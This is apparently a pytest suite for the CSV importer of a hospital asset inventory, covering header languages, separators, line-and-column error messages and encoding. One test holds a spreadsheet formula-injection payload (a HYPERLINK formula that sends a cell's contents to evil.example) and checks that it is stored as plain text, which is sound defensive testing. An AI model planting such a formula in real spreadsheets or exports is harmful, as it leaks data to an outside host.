"""The CSV template: French or English headers, either separator, every wrong cell named by its line
and column, formulas kept as text."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from hygie.assets.importers import read_file
from hygie.assets.importers.csvfile import COLUMNS, key
from hygie.assets.models import AssetKind, ClinicalCriticality, MedicalSubtype, Patchable, PatchedBy
from hygie.core.errors import ImportRejectedError

DATA = Path(__file__).parent / "data"
DOCS = Path(__file__).resolve().parents[2] / "docs"
TEMPLATE_PAGES = [DOCS / "en" / "inventory-csv.md", DOCS / "fr" / "inventaire-csv.md"]


def _csv(tmp_path: Path, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / "inventaire.csv"
    path.write_bytes(text.encode(encoding))
    return path


def _problems(path: Path) -> list[str]:
    with pytest.raises(ImportRejectedError) as caught:
        read_file(path)
    return [str(p) for p in caught.value.problems]


def test_french_template_with_semicolons() -> None:
    pump, console, server = read_file(DATA / "inventory_fr.csv").records
    assert pump.line == 2 and pump.name == "Pompe Réa 12"
    assert pump.kind is AssetKind.MEDICAL_DEVICE and pump.medical_subtype is MedicalSubtype.INFUSION_PUMP
    assert pump.macs[0].address == "00:0a:95:9d:68:16" and pump.serial == "SN-77001"
    assert pump.criticality is ClinicalCriticality.LIFE_SUSTAINING
    assert pump.end_of_support == date(2027, 12, 31)
    assert (pump.patchable, pump.patched_by, pump.remote_service, pump.internet_exposed) == (
        Patchable.NO,
        PatchedBy.MAKER,
        True,
        False,
    )
    assert pump.department == "Réanimation" and pump.network_zone == "VLAN-BIOMED"
    assert console.medical_subtype is MedicalSubtype.IMAGING_MODALITY
    assert console.end_of_support == date(2020, 1, 14) and console.patchable is Patchable.UNKNOWN
    assert server.kind is AssetKind.SERVER and server.hostname == "srv-dpi-01"


def test_formula_is_kept_as_text() -> None:
    server = read_file(DATA / "inventory_fr.csv").records[2]
    assert server.name == '=HYPERLINK("http://evil.example/?x="&A1;"clic")'


def test_english_headers_with_commas_and_a_bom(tmp_path: Path) -> None:
    text = (
        "\ufeffName,Hostname,IP,MAC,Kind,Subtype,Maker,Serial number,Department,Criticality,"
        "Internet exposed\n"
        'Monitor 3,MON-03.chu.local.,"10.1.1.3 10.1.1.4",001A2B3C4D5E,medical device,patient monitor,'
        "Philips, 123abc ,ICU,life-sustaining,yes\n"
        "\n"
        ",,,,,,,,,,\n"
        "Printer,,10.1.1.9,,other,,,,,,\n"
    )
    monitor, printer = read_file(_csv(tmp_path, text)).records
    assert monitor.hostname == "mon-03.chu.local" and monitor.ips == ["10.1.1.3", "10.1.1.4"]
    assert monitor.macs[0].address == "00:1a:2b:3c:4d:5e" and monitor.serial == "123ABC"
    assert monitor.medical_subtype is MedicalSubtype.PATIENT_MONITOR and monitor.internet_exposed is True
    assert printer.line == 5 and printer.kind is AssetKind.OTHER


def test_unknown_columns_are_ignored_and_said(tmp_path: Path) -> None:
    parsed = read_file(_csv(tmp_path, "Nom;Commentaire;IP\nPompe;à revoir;10.0.0.1\n"))
    assert parsed.records[0].ips == ["10.0.0.1"]
    assert parsed.warnings == ["inventaire.csv: column ignored (not in the template): 'Commentaire'"]


def test_every_wrong_cell_is_named_by_line_and_column(tmp_path: Path) -> None:
    text = (
        "Nom;Type;Adresse IP;Adresse MAC;Fin de support;Criticité;Télémaintenance\n"
        "A;serveur;10.0.0.1;;;;\n"
        "B;grille-pain;10.0.0.300;zz;31/02/2027;vitale;peut-être\n"
    )
    problems = _problems(_csv(tmp_path, text))
    assert problems == [
        "inventaire.csv, line 3, Type: 'grille-pain' is not one of: server, workstation, network, "
        "medical_device, iot, other",
        "inventaire.csv, line 3, Adresse IP: not an IP address: '10.0.0.300'",
        "inventaire.csv, line 3, Adresse MAC: not a MAC address: 'zz'",
        "inventaire.csv, line 3, Fin de support: '31/02/2027' is not a date (YYYY-MM-DD or DD/MM/YYYY)",
        "inventaire.csv, line 3, Télémaintenance: 'peut-être' is not yes/oui, no/non or unknown/inconnu",
    ]


def test_a_line_that_identifies_nothing(tmp_path: Path) -> None:
    problems = _problems(_csv(tmp_path, "Nom;Service\nA;Urgences\n;Urgences\n"))
    assert problems == [
        "inventaire.csv, line 3: no name, hostname, IP, MAC or serial: nothing identifies the asset"
    ]


def test_too_long_a_value(tmp_path: Path) -> None:
    problems = _problems(_csv(tmp_path, f"Nom;Modèle\nA;{'x' * 250}\n"))
    assert len(problems) == 1 and problems[0].startswith(
        "inventaire.csv, line 2, Modèle: String should have at most 200"
    )


def test_not_utf8(tmp_path: Path) -> None:
    problems = _problems(_csv(tmp_path, "Nom;Service\nA;Réanimation\n", encoding="cp1252"))
    assert problems == [
        "inventaire.csv, line 2: the file is not UTF-8 (in a spreadsheet, save it as « CSV UTF-8 »)"
    ]


def test_unbalanced_quote(tmp_path: Path) -> None:
    problems = _problems(_csv(tmp_path, 'Nom;Service\n"A;Urgences\nB;Réa\n'))
    assert len(problems) == 1 and problems[0].startswith("inventaire.csv, line 2: unreadable CSV")


def test_a_separator_inside_a_value(tmp_path: Path) -> None:
    problems = _problems(_csv(tmp_path, "Nom;Service\nA;Urgences;Pédiatrie\n"))
    assert problems == ["inventaire.csv, line 2: 3 cells for 2 columns (a separator inside a value?)"]


def test_header_problems(tmp_path: Path) -> None:
    assert _problems(_csv(tmp_path, "Foo;Bar\n1;2\n"))[0].startswith(
        "inventaire.csv, line 1: no known column"
    )
    assert _problems(_csv(tmp_path, "Nom;Name\nA;B\n")) == [
        "inventaire.csv, line 1, Name: same column as 'Nom'"
    ]
    assert _problems(_csv(tmp_path, "")) == ["inventaire.csv: the file is empty"]


@pytest.mark.parametrize("page", TEMPLATE_PAGES, ids=lambda p: p.name)
def test_the_documented_template_is_the_one_read(page: Path, tmp_path: Path) -> None:
    text = page.read_text(encoding="utf-8")
    rows = [line.split("|")[1:3] for line in text.splitlines() if line.startswith("| `")]
    documented = {key(cell.strip().strip("`")) for row in rows for cell in row}
    accepted = {name: field for field, names in COLUMNS.items() for name in names}
    assert documented <= accepted.keys(), documented - accepted.keys()
    assert {accepted[name] for name in documented} == set(COLUMNS)  # every column documented, both languages
    example = text.split("```")[1].strip()
    records = read_file(_csv(tmp_path, example + "\n")).records
    assert [r.name for r in records] == ["Pompe Réa 12", "Console IRM"]
